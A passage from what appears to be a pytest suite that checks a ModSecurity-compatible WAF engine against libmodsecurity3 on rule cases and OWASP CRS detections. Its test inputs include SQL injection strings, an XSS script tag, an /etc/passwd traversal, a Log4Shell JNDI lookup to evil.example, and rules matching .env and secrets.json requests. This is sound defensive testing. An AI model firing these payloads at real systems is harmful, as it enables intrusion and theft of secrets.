            + b"v\r\n" * 2
            + b"\r\n--XyZ--\r\n"
        ),
        None,
    ),
    (
        "no-files limit (ProcessPartial): a multipart file",
        "SecRequestBodyAccess On\nSecRequestBodyNoFilesLimit 50\n"
        "SecRequestBodyLimitAction ProcessPartial\n"
        'SecRule REQBODY_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:3,phase:2,pass"\n'
        'SecRule REQBODY_ERROR_MSG "@rx excluding files" "id:4,phase:2,pass"\n'
        'SecRule REQUEST_BODY_LENGTH "@gt 50" "id:5,phase:2,pass"\n'
        'SecRule &FILES "@eq 1" "id:6,phase:2,pass"',
        "/",
        MP,
        (
            b'--XyZ\r\nContent-Disposition: form-data; name="a"; filename="f"\r\n\r\n'
            + b"v" * 300
            + b"\r\n--XyZ--\r\n"
        ),
        None,
    ),
    (
        "@pm as acmp: /secrets.env",
        'SecRule REQUEST_FILENAME "@pm .env secrets.json" "id:1,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bce cy" "id:2,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bx cy" "id:3,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bc" "id:4,phase:1,pass,capture,logdata:%{tx.0}"\n'
        'SecRule TX:0 "@streq abc" "id:5,phase:1,pass"',
        "/secrets.env",
        (),
        b"",
        None,
    ),
    (
        "@pm as acmp: /a.env",
        'SecRule REQUEST_FILENAME "@pm .env secrets.json" "id:1,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bce cy" "id:2,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bx cy" "id:3,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bc" "id:4,phase:1,pass,capture,logdata:%{tx.0}"\n'
        'SecRule TX:0 "@streq abc" "id:5,phase:1,pass"',
        "/a.env",
        (),
        b"",
        None,
    ),
    (
        "@pm as acmp: /x/secrets.json.env",
        'SecRule REQUEST_FILENAME "@pm .env secrets.json" "id:1,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bce cy" "id:2,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bx cy" "id:3,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bc" "id:4,phase:1,pass,capture,logdata:%{tx.0}"\n'
        'SecRule TX:0 "@streq abc" "id:5,phase:1,pass"',
        "/x/secrets.json.env",
        (),
        b"",
        None,
    ),
    (
        "@pm as acmp: /abcy",
        'SecRule REQUEST_FILENAME "@pm .env secrets.json" "id:1,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bce cy" "id:2,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bx cy" "id:3,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bc" "id:4,phase:1,pass,capture,logdata:%{tx.0}"\n'
        'SecRule TX:0 "@streq abc" "id:5,phase:1,pass"',
        "/abcy",
        (),
        b"",
        None,
    ),
    (
        "@pm as acmp: /abcxy",
        'SecRule REQUEST_FILENAME "@pm .env secrets.json" "id:1,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bce cy" "id:2,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bx cy" "id:3,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bc" "id:4,phase:1,pass,capture,logdata:%{tx.0}"\n'
        'SecRule TX:0 "@streq abc" "id:5,phase:1,pass"',
        "/abcxy",
        (),
        b"",
        None,
    ),
    (
        "@pm as acmp: /xabcd",
        'SecRule REQUEST_FILENAME "@pm .env secrets.json" "id:1,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bce cy" "id:2,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bx cy" "id:3,phase:1,pass"\n'
        'SecRule REQUEST_FILENAME "@pm abcd bc" "id:4,phase:1,pass,capture,logdata:%{tx.0}"\n'
        'SecRule TX:0 "@streq abc" "id:5,phase:1,pass"',
        "/xabcd",
        (),
        b"",
        None,
    ),
    (
        "response phases",
        "SecResponseBodyAccess On\n"
        'SecRule RESPONSE_STATUS "@streq 500" "id:1,phase:3,pass"\n'
        'SecRule RESPONSE_BODY "@contains ORA-" "id:2,phase:4,pass"\n'
        'SecRule RESPONSE_HEADERS:Content-Type "@contains html" "id:3,phase:3,pass"\n'
        'SecRule RESPONSE_CONTENT_TYPE "@streq text/html" "id:4,phase:3,pass"',
        "/",
        (),
        b"",
        (500, (("Content-Type", "text/html; charset=x"),), b"ORA-00933"),
    ),
]


def _request(uri: str, extra: tuple[tuple[str, str], ...], body: bytes) -> HttpRequest:
    headers = HEADERS + extra
    if body:
        headers += (("Content-Length", str(len(body))),)
    return HttpRequest("POST" if body else "GET", uri, "HTTP/1.1", headers, body)


@pytest.mark.parametrize("case", CASES, ids=[case[0] for case in CASES])
def test_same_verdict_and_logged_ids_as_libmodsecurity3(
    case: tuple[str, str, str, tuple[tuple[str, str], ...], bytes, object],
) -> None:
    _, rules, uri, extra, body, response = case
    text = f"SecRuleEngine On\n{rules}\n"
    request = _request(uri, extra, body)
    reference_response = response if isinstance(response, tuple) else None
    status, ids, lines = libmodsec.Reference(text).run(
        request.method, uri, request.headers, body, reference_response
    )
    ours_response = (
        HttpResponse(response[0], "HTTP/1.1", response[1], response[2])
        if isinstance(response, tuple)
        else None
    )
    result = WafEngine.load([], before=text).evaluate(request, ours_response)
    assert (result.status, result.logged_ids()) == (status, ids), "\n".join(lines)


@functools.cache
def _crs() -> tuple[libmodsec.Reference, WafEngine]:
    crs = shared_path("data", "crs")
    files = [str(crs / "crs-setup.conf.example")]
    files += sorted(str(p) for p in (crs / "rules").glob("*.conf"))
    before = "SecRuleEngine On\nSecRequestBodyAccess On\n"
    return libmodsec.Reference(before, files), WafEngine.load(files, before=before)


@pytest.mark.parametrize(
    ("uri", "extra", "body"),
    [
        ("/index.html?page=2&sort=name", (("Cookie", "session=abc; theme=dark"),), b""),
        ("/?id=1%27%20or%201=1--%20-", (), b""),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", (), b""),
        ("/?file=../../../../etc/passwd", (), b""),
        ("/", (("X-Api-Version", "${jndi:ldap://evil.example/a}"),), b""),
        ("/login", FORM, b"user=alice&password=correct+horse"),
        ("/login", FORM, b"user=admin%27--&password=x"),
    ],
)
def test_crs_pl1_same_as_libmodsecurity3(
    uri: str, extra: tuple[tuple[str, str], ...], body: bytes
) -> None:
    reference, engine = _crs()
    request = _request(uri, extra, body)
    status, ids, lines = reference.run(request.method, uri, request.headers, body)
    result = engine.evaluate(request)
    assert (result.status, result.logged_ids()) == (status, ids), "\n".join(lines)


def test_pm_agrees_with_acmp_on_random_phrases() -> None:
    """Phrase sets over a small alphabet make acmp's one-step failure links matter often."""
    rng = random.Random(5)
    for _ in range(40):
        phrases = {"".join(rng.choices("ab.", k=rng.randint(1, 5))) for _ in range(4)}
        rules = (
            "SecRuleEngine On\n"
            f'SecRule ARGS:v "@pm {" ".join(sorted(phrases))}" '
            '"id:1,phase:1,pass,capture,logdata:%{tx.0}"\n'
        )
        reference, engine = libmodsec.Reference(rules), WafEngine.load([], before=rules)
        for _ in range(8):
            uri = "/?v=" + "".join(rng.choices("abB.", k=rng.randint(1, 10)))
            request = _request(uri, (), b"")
            _, ids, lines = reference.run("GET", uri, request.headers)
            result = engine.evaluate(request)
            data = [found for line in lines for found in re.findall(r'\[data "([^"]*)"\]', line)]
            assert (result.logged_ids(), [m.data for m in result.matches]) == (ids, data), uri
